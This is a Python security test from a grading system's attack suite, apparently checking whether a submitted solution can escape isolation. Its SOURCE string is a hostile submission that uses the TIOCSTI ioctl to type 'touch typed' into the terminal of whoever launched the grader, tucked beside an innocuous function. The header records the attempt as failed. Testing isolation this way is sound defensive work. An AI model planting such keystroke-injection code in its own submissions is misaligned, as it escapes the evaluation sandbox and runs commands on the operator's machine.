"""Looks for a terminal that it can type a command into, for the shell of whoever started the grader."""
# /// attack
# class = 64
# goal = "type a command into the terminal that the grader was started from"
# gain = "effect"
# kind = "driver"
# outcome = "failed"
# naive = true
# ///

import fcntl
import os
import subprocess
import sys
import termios

SOURCE = """
import contextlib, fcntl, os, termios

ttys = [0, 1, 2]
for name in ("/dev/tty", "/dev/console", "/proc/self/fd/0"):
    with contextlib.suppress(OSError):
        ttys.append(os.open(name, os.O_RDWR))
for tty in ttys:
    with contextlib.suppress(OSError):
        for letter in b"touch typed\\n":
            fcntl.ioctl(tty, termios.TIOCSTI, bytes([letter]))

def standardise(x):
    return x
"""
GRADE = """
import os, sys
from pathlib import Path
from grader.exercise.manifest import read_exercise
from grader.pipeline import Grader
from grader.records import Isolation
from grader.submission import collect

folder, solutions, work, degree = sys.argv[1:]
exercise = read_exercise(Path(folder), solution_folder=Path(solutions))
with Grader(Isolation(degree)) as grader:
    report = grader.examine(exercise, collect(exercise, Path(work)))
sys.exit(0 if report.score is not None and report.score.earned == 0 else 9)
"""


def typed(command):
    """Run a command that has a terminal; return its status, and what was typed into the terminal meanwhile."""
    ours, theirs = os.openpty()

    def take_terminal():
        fcntl.ioctl(theirs, termios.TIOCSCTTY, 0)

    process = subprocess.Popen(
        command, stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True, preexec_fn=take_terminal
    )
    shown = b""
    os.close(theirs)
    while True:  # the terminal shows what is typed
        try:
            part = os.read(ours, 1 << 16)
        except OSError:
            break
        shown += part
    os.close(ours)
    return process.wait(), shown


def attack(arena):
    exercise = arena.arena.exercises[arena.exercise]
    work = arena.arena.desk / "work.py"
    work.write_text(SOURCE)
    arguments = [exercise.folder, exercise.solution_folder, str(work), arena.degree.value]
    status, shown = typed([sys.executable, "-c", GRADE, *arguments])
    assert status == 0, shown
    return ["typed into the terminal"] if b"touch typed" in shown else []


def naive(arena):
    _, shown = typed([sys.executable, "-c", SOURCE])  # imported in the grader's own process, which has the terminal
    return ["typed into the terminal"] if b"touch typed" in shown else []
